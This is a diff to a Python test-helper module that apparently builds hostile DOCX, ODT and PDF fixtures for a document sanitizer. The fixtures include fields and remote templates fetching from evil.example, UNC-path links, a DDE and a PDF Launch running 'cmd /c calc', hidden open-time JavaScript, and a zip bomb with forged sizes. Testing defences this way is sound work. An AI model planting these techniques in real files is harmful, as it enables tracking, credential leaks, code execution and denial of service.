@@ -402,3 +402,437 @@ def libreoffice_docx(docx: bytes, tmp: Path) -> bytes:
     src.parent.mkdir(parents=True, exist_ok=True)
     src.write_bytes(docx)
     return soffice_convert(src, "docx:MS Word 2007 XML", tmp / "out").read_bytes()
+
+
+# --------------------------------------------------------------------------- reaching outside (issue 13)
+#
+# Real Word structures: a complex field is fldChar begin / instrText runs / fldChar separate /
+# result runs / fldChar end, as Word writes it; a header, footnote, comment or glossary part
+# is added with its content type override, its relationship from the document and (for
+# headers) a reference in the section properties, so Word would really show and update it.
+
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_CT_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
+
+
+def complex_field_runs(*instr_pieces: str, result: str = "1") -> str:
+    """A complex field as Word writes it, the instruction split over several runs."""
+    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    for piece in instr_pieces:
+        runs += f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+    runs += ('<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+             f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return runs
+
+
+def simple_field(instr: str, result: str = "1") -> str:
+    instr = instr.replace("&", "&amp;").replace('"', "&quot;")
+    return f'<w:fldSimple w:instr="{instr}"><w:r><w:t>{result}</w:t></w:r></w:fldSimple>'
+
+
+def _insert_in_body(base: bytes, paragraph_inner: str) -> bytes:
+    """A new paragraph holding ``paragraph_inner`` before the section properties."""
+    doc = read_part(base, "word/document.xml").decode()
+    i = doc.rindex("<w:sectPr")
+    doc = doc[:i] + f"<w:p>{paragraph_inner}</w:p>" + doc[i:]
+    return rezip(base, replace={"word/document.xml": doc.encode()})
+
+
+def field_in_document(base: bytes, *instr_pieces: str) -> bytes:
+    return _insert_in_body(base, complex_field_runs(*instr_pieces))
+
+
+def simple_field_in_document(base: bytes, instr: str) -> bytes:
+    return _insert_in_body(base, simple_field(instr))
+
+
+def _add_part(base: bytes, part: str, xml: str, ctype: str, reltype: str, *, rid: str,
+              extra: dict[str, bytes] | None = None) -> bytes:
+    ct = read_part(base, "[Content_Types].xml").decode().replace(
+        "</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>')
+    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
+        "</Relationships>",
+        f'<Relationship Id="{rid}" Type="{reltype}" Target="{part.removeprefix("word/")}"/></Relationships>')
+    return rezip(base, replace={"[Content_Types].xml": ct.encode(), "word/_rels/document.xml.rels": rels.encode()},
+                 add={part: xml.encode(), **(extra or {})})
+
+
+def field_in_header(base: bytes, *instr_pieces: str) -> bytes:
+    """A second header (first-page header) whose paragraph holds the field."""
+    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
+           f"<w:p>{complex_field_runs(*instr_pieces)}</w:p></w:hdr>")
+    data = _add_part(base, "word/header9.xml", xml, _CT_WORD + "header+xml", _REL_BASE + "header", rid="rIdHdr9")
+    doc = read_part(data, "word/document.xml").decode()
+    i = doc.rindex("<w:sectPr")
+    j = doc.index(">", i) + 1
+    doc = doc[:j] + f'<w:headerReference xmlns:r="{R_NS}" w:type="first" r:id="rIdHdr9"/><w:titlePg/>' + doc[j:]
+    return rezip(data, replace={"word/document.xml": doc.encode()})
+
+
+def field_in_footer_simple(base: bytes, instr: str) -> bytes:
+    """The template's own footer with a simple field added."""
+    xml = read_part(base, "word/footer1.xml").decode()
+    i = xml.rindex("</w:ftr>")
+    xml = xml[:i] + f"<w:p>{simple_field(instr)}</w:p>" + xml[i:]
+    return rezip(base, replace={"word/footer1.xml": xml.encode()})
+
+
+def _notes_xml(kind: str, inner: str) -> str:
+    tag = "footnote" if kind == "footnotes" else "endnote"
+    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind} xmlns:w="{W_NS}">'
+            f'<w:{tag} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{tag}>'
+            f'<w:{tag} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:{tag}>'
+            f'<w:{tag} w:id="1"><w:p>{inner}</w:p></w:{tag}></w:{kind}>')
+
+
+def field_in_notes(base: bytes, kind: str, *instr_pieces: str) -> bytes:
+    """A footnote (or endnote) referenced from the body, holding the field."""
+    tag = "footnote" if kind == "footnotes" else "endnote"
+    data = _add_part(base, f"word/{kind}.xml", _notes_xml(kind, complex_field_runs(*instr_pieces)),
+                     _CT_WORD + f"{kind}+xml", _REL_BASE + kind, rid=f"rId{kind}")
+    return _insert_in_body(data, f'<w:r><w:t>Se not</w:t></w:r><w:r><w:{tag}Reference w:id="1"/></w:r>')
+
+
+def field_in_comment(base: bytes, *instr_pieces: str) -> bytes:
+    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:comments xmlns:w="{W_NS}">'
+           f'<w:comment w:id="0" w:author="Värd" w:date="2023-02-06T10:00:00Z" w:initials="V">'
+           f"<w:p>{complex_field_runs(*instr_pieces)}</w:p></w:comment></w:comments>")
+    data = _add_part(base, "word/comments.xml", xml, _CT_WORD + "comments+xml", _REL_BASE + "comments",
+                     rid="rIdComments")
+    return _insert_in_body(data, '<w:commentRangeStart w:id="0"/><w:r><w:t>Kommenterat</w:t></w:r>'
+                                 '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>')
+
+
+def field_in_glossary(base: bytes, *instr_pieces: str) -> bytes:
+    """A building block (glossary document) holding the field, as Quick Parts are stored."""
+    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:glossaryDocument xmlns:w="{W_NS}">'
+           '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Byggblock"/><w:category><w:name w:val="Allmänt"/>'
+           '<w:gallery w:val="placeholder"/></w:category><w:guid w:val="{6A1E5B42-2C71-4C4B-9E8E-000000000001}"/>'
+           f"</w:docPartPr><w:docPartBody><w:p>{complex_field_runs(*instr_pieces)}</w:p></w:docPartBody>"
+           "</w:docPart></w:docParts></w:glossaryDocument>")
+    return _add_part(base, "word/glossary/document.xml", xml, _CT_WORD + "document.glossary+xml",
+                     _REL_BASE + "glossaryDocument", rid="rIdGlossary")
+
+
+def nested_field(base: bytes) -> bytes:
+    """``{ IF 1 = 1 "{ INCLUDEPICTURE "http://..." \\d }" }``: the fetching field nested."""
+    inner = complex_field_runs('INCLUDEPICTURE "http://evil.example/track.png" \\d')
+    runs = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
+            f'{inner}<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return _insert_in_body(base, runs)
+
+
+def relationship_in_part(base: bytes, rels_name: str, reltype: str, target: str, *,
+                         mode: str = "External") -> bytes:
+    """An external relationship added to another part's relationship file (header, footer,
+    settings), created when it does not exist yet."""
+    try:
+        rels = read_part(base, rels_name).decode()
+    except KeyError:
+        rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    rels = rels.replace("</Relationships>", f'<Relationship Id="rIdExt7" Type="{_REL_BASE}{reltype}" '
+                                           f'Target="{target}" TargetMode="{mode}"/></Relationships>')
+    try:
+        read_part(base, rels_name)
+        return rezip(base, replace={rels_name: rels.encode()})
+    except KeyError:
+        return rezip(base, add={rels_name: rels.encode()})
+
+
+def remote_template_in_settings(base: bytes, target: str = "https://evil.example/t.dotm", mode: str = "external") -> bytes:
+    """Template injection: settings.xml names an attached template held by an external
+    relationship; TargetMode in lower case (Office compares it case-insensitively)."""
+    data = relationship_in_part(base, "word/_rels/settings.xml.rels", "attachedTemplate", target, mode=mode)
+    settings = read_part(data, "word/settings.xml").decode()
+    i = settings.index(">", settings.index("<w:settings")) + 1
+    settings = settings[:i] + f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdExt7"/>' + settings[i:]
+    return rezip(data, replace={"word/settings.xml": settings.encode()})
+
+
+def rels_part_in_upper_case(base: bytes) -> bytes:
+    """The document's relationship part stored as WORD/_RELS/DOCUMENT.XML.RELS (Office
+    resolves part names case-insensitively) with an external image in it."""
+    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
+        "</Relationships>", f'<Relationship Id="rIdExt8" Type="{_REL_BASE}image" '
+                            'Target="\\\\evil.example\\share\\x.png" TargetMode="External"/></Relationships>')
+    return rezip(base, replace={"word/_rels/document.xml.rels": None},
+                 add={"WORD/_RELS/DOCUMENT.XML.RELS": rels.encode()})
+
+
+def hyperlink_used_as_picture(base: bytes) -> bytes:
+    """A relationship typed 'hyperlink' (allowed) whose id a picture uses as r:link, which
+    Word fetches when it shows the picture."""
+    data = with_relationship(base, "hyperlink", "http://evil.example/pixel.png")
+    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
+    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
+    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
+    drawing = (f'<w:r><w:drawing><wp:inline xmlns:wp="{wp}"><wp:extent cx="9525" cy="9525"/><wp:docPr id="99" name="p"/>'
+               f'<a:graphic xmlns:a="{a}"><a:graphicData uri="{pic}"><pic:pic xmlns:pic="{pic}">'
+               '<pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
+               f'<pic:blipFill><a:blip xmlns:r="{R_NS}" r:link="rIdExt9"/></pic:blipFill>'
+               '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
+               '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
+    return _insert_in_body(data, drawing)
+
+
+def lying_small_declared_size(base: bytes, real: int = 120 * 1024 * 1024, declared: int = 4096) -> bytes:
+    """A 'picture' whose zip directory and local header declare 4 KiB while its deflate
+    stream inflates to 120 MiB (above the per-part cap): only counting produced bytes
+    catches it; the declared sizes and ratio look harmless."""
+    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = b"\0" * (1024 * 1024)
+    blob = b"".join(comp.compress(chunk) for _ in range(real // len(chunk))) + comp.flush()
+    data = rezip(base, add={"word/media/image3.png": b"placeholder"}, compress=zipfile.ZIP_STORED)
+    return _swap_entry(data, b"word/media/image3.png", blob, declared=declared, crc=zlib.crc32(b"\0" * declared))
+
+
+def _swap_entry(data: bytes, name: bytes, blob: bytes, *, declared: int, crc: int) -> bytes:
+    """Rebuild the zip with ``name``'s data replaced by the raw deflate ``blob``, with
+    forged sizes, by patching local header and central directory (method 8)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin:
+        infos = zin.infolist()
+        entries = [(i, zin.read(i.filename)) for i in infos]
+    central = b""
+    for info, raw in entries:
+        fname = info.filename.encode()
+        if fname == name:
+            method, body, size, crc_v = 8, blob, declared, crc
+        else:
+            method, body, size, crc_v = 0, raw, len(raw), zlib.crc32(raw)
+        offset = out.tell()
+        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc_v, len(body), size,
+                              len(fname), 0) + fname + body)
+        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc_v, len(body),
+                               size, len(fname), 0, 0, 0, 0, 0, offset) + fname
+    cd_start = out.tell()
+    out.write(central)
+    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd_start, 0))
+    return out.getvalue()
+
+
+def entry_bigger_than_declared(base: bytes) -> bytes:
+    """Declared sizes say 4 KiB, the deflate stream gives 2 MiB: below every cap, but the
+    produced size differs from the declared one."""
+    return lying_small_declared_size(base, real=2 * 1024 * 1024)
+
+
+# ------------------------------------------------------------ ODT reaching outside
+
+
+_ODT_NS = {
+    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
+    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
+    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
+    "xlink": "http://www.w3.org/1999/xlink",
+    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
+}
+
+
+def odt_with(body_xml: str, *, decls: str = "") -> bytes:
+    """A valid ODT (as make_odt) with extra markup in the body (and before it, ``decls``)."""
+    base = make_odt([("Ta fram policy", "Pia Sandin", "2023-05-01")])
+    content = read_part(base, "content.xml").decode()
+    ns = " ".join(f'xmlns:{k}="{v}"' for k, v in _ODT_NS.items() if k not in ("office", "text", "table"))
+    content = content.replace("<office:document-content ", f"<office:document-content {ns} ", 1)
+    content = content.replace("<office:text>", f"<office:text>{decls}<text:p>{body_xml}</text:p>", 1)
+    return rezip(base, replace={"content.xml": content.encode()})
+
+
+def odt_linked_image(url: str = "http://evil.example/pixel.png") -> bytes:
+    return odt_with(f'<draw:frame draw:name="Bild1" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{url}" '
+                    'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>')
+
+
+def odt_linked_section(url: str = r"\\evil.example\share\avsnitt.odt") -> bytes:
+    base = make_odt([("Ta fram policy", "Pia Sandin", "2023-05-01")])
+    content = read_part(base, "content.xml").decode()
+    section = (f'<text:section text:name="Avsnitt1"><text:section-source xmlns:xlink="{_ODT_NS["xlink"]}" '
+               f'xlink:href="{url}" xlink:type="simple" text:filter-name="writer8"/><text:p>x</text:p></text:section>')
+    content = content.replace("</office:text>", section + "</office:text>", 1)
+    return rezip(base, replace={"content.xml": content.encode()})
+
+
+def odt_dde() -> bytes:
+    """A DDE connection and field in ODF (what LibreOffice writes for Insert > Field > DDE)."""
+    decls = ('<text:dde-connection-decls><text:dde-connection-decl office:name="Kurs" '
+             'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x" '
+             'office:automatic-update="true"/></text:dde-connection-decls>')
+    return odt_with('<text:dde-connection text:connection-name="Kurs">1</text:dde-connection>', decls=decls)
+
+
+def odt_hyperlink() -> bytes:
+    """A plain hyperlink in ODT: a click target, accepted."""
+    return odt_with('<text:a xlink:type="simple" xlink:href="https://www.example.se/">webbplatsen</text:a>')
+
+
+# ------------------------------------------------------------ PDF reaching outside
+
+
+def pdf_from_objects(objects: list[bytes], *, root: int = 1, header: bytes = b"%PDF-1.4") -> bytes:
+    """A PDF with classic xref from numbered objects (1-based, in order)."""
+    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for i, obj in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    for off in offsets:
+        out += b"%010d 00000 n \n" % off
+    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
+    return bytes(out)
+
+
+def _page_objects(text: str = "Beslutsprotokoll", page_extra: bytes = b"") -> list[bytes]:
+    stream = b"BT /F1 11 Tf 50 800 Td " + _pdf_str(text) + b" Tj ET"
+    return [
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
+        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+    ]
+
+
+def pdf_with_catalog(catalog_extra: bytes, extra_objects: list[bytes] = (), page_extra: bytes = b"") -> bytes:
+    """Catalog (1), pages (2-5), then ``extra_objects`` numbered from 6."""
+    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
+    return pdf_from_objects([catalog, *_page_objects(page_extra=page_extra), *extra_objects])
+
+
+def pdf_open_javascript() -> bytes:
+    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hej'\\)) >>"])
+
+
+def pdf_escaped_javascript() -> bytes:
+    """``/J#61vaScript`` and ``/J#53``: name escapes a naive byte search misses."""
+    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /Type /Action /S /J#61vaScript /J#53 (this.submitForm\\(\\)) >>"])
+
+
+def pdf_names_javascript() -> bytes:
+    """Document-level JavaScript in the Names tree (runs on open)."""
+    return pdf_with_catalog(b"/Names << /JavaScript 6 0 R >>",
+                            [b"<< /Names [(init) 7 0 R] >>", b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"])
+
+
+def pdf_launch() -> bytes:
+    return pdf_with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")
+
+
+def pdf_submit_form() -> bytes:
+    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/s) >> >>"])
+
+
+def pdf_import_data() -> bytes:
+    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>"])
+
+
+def pdf_embedded_file() -> bytes:
+    data = b"MZ fake executable"
+    return pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [(bilaga.exe) 6 0 R] >> >>", [
+        b"<< /Type /Filespec /F (bilaga.exe) /EF << /F 7 0 R >> >>",
+        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
+    ])
+
+
+def pdf_page_aa() -> bytes:
+    """A page's additional action (/AA /O: on open of the page)."""
+    return pdf_with_catalog(b"", [b"<< /S /URI /URI (http://evil.example/seen) >>"], page_extra=b" /AA << /O 6 0 R >>")
+
+
+def pdf_open_uri() -> bytes:
+    """An /OpenAction that opens a web address on open: not a plain view."""
+    return pdf_with_catalog(b"/OpenAction << /S /URI /URI (http://evil.example/seen) >>")
+
+
+def pdf_open_view() -> bytes:
+    """A plain-view /OpenAction (what LibreOffice and Word write): accepted."""
+    return pdf_with_catalog(b"/OpenAction [3 0 R /XYZ null null 0]")
+
+
+def pdf_link_annotation() -> bytes:
+    """A clickable web link on the page: accepted."""
+    return pdf_with_catalog(b"", [b"<< /Type /Annot /Subtype /Link /Rect [50 790 200 810] "
+                                  b"/A << /S /URI /URI (https://www.example.se/) >> >>"],
+                            page_extra=b" /Annots [6 0 R]")
+
+
+def pdf_objstm_javascript() -> bytes:
+    """PDF 1.5 with an object stream (Flate) holding the JavaScript action and an xref
+    stream: the dictionary never appears in the file's bytes uncompressed."""
+    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
+    objstm_body = b"6 0 " + action
+    objstm_z = zlib.compress(objstm_body)
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
+    objs = [catalog, *_page_objects()]
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for i, obj in enumerate(objs, start=1):
+        offsets[i] = len(out)
+        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
+    offsets[7] = len(out)
+    out += (b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objstm_z)
+            + objstm_z + b"\nendstream\nendobj\n")
+    xref_off = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    for i in range(1, 6):
+        rows.append(struct.pack(">BIH", 1, offsets[i], 0))
+    rows.append(struct.pack(">BIH", 2, 7, 0))  # object 6 is item 0 of object stream 7
+    rows.append(struct.pack(">BIH", 1, offsets[7], 0))
+    rows.append(struct.pack(">BIH", 1, xref_off, 0))
+    xref_z = zlib.compress(b"".join(rows))
+    out += (b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+            % len(xref_z) + xref_z + b"\nendstream\nendobj\n")
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_off
+    return bytes(out)
+
+
+def hyperlink_in_body(base: bytes, url: str = "https://www.example.se/a?b=1&amp;c=2") -> bytes:
+    """An ordinary web link as Word writes it: a w:hyperlink over a hyperlink relationship."""
+    data = with_relationship(base, "hyperlink", url)
+    return _insert_in_body(data, f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdExt9"><w:r><w:t>webbplatsen</w:t></w:r>'
+                                 "</w:hyperlink>")
+
+
+def with_alt_chunk(base: bytes, name: str, data: bytes, ctype: str) -> bytes:
+    """An altChunk: content Word imports into the body when it opens the document."""
+    data2 = _add_part(base, f"word/{name}", "", ctype, _REL_BASE + "aFChunk", rid="rIdAlt1")
+    data2 = rezip(data2, replace={f"word/{name}": data})
+    doc = read_part(data2, "word/document.xml").decode()
+    i = doc.rindex("<w:sectPr")
+    doc = doc[:i] + f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdAlt1"/>' + doc[i:]
+    return rezip(data2, replace={"word/document.xml": doc.encode()})
+
+
+def alt_chunk_rtf(base: bytes, fldinst: str = '{\\rtlch\\fcs1 INCLUDEPICTURE "http://evil.example/p.png" \\\\d}') -> bytes:
+    rtf = ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard Se bild: "
+           "{\\field{\\*\\fldinst " + fldinst + "}{\\fldrslt bild}}\\par}").encode()
+    return with_alt_chunk(base, "afchunk.rtf", rtf, "application/rtf")
+
+
+def alt_chunk_rtf_objupdate(base: bytes) -> bytes:
+    rtf = (b"{\\rtf1\\ansi{\\object\\objautlink\\objupdate\\rsltpict\\objw100\\objh100"
+           b"{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}}}")
+    return with_alt_chunk(base, "afchunk.rtf", rtf, "application/rtf")
+
+
+def alt_chunk_docx(base: bytes, inner: bytes) -> bytes:
+    return with_alt_chunk(base, "afchunk.docx", inner, _CT_WORD + "document.main+xml")
+
+
+def mail_merge_settings(base: bytes, connect: str = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\db.accdb") -> bytes:
+    """settings.xml of a mail-merge main document: Word runs the query when it opens it."""
+    settings = read_part(base, "word/settings.xml").decode()
+    i = settings.index(">", settings.index("<w:settings")) + 1
+    merge = (f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+             f'<w:connectString w:val="{connect}"/><w:query w:val="SELECT * FROM `Blad1$`"/></w:mailMerge>')
+    # mailMerge comes after a few elements in CT_Settings order; Word accepts it near the start too
+    settings = settings[:i] + merge + settings[i:]
+    return rezip(base, replace={"word/settings.xml": settings.encode()})
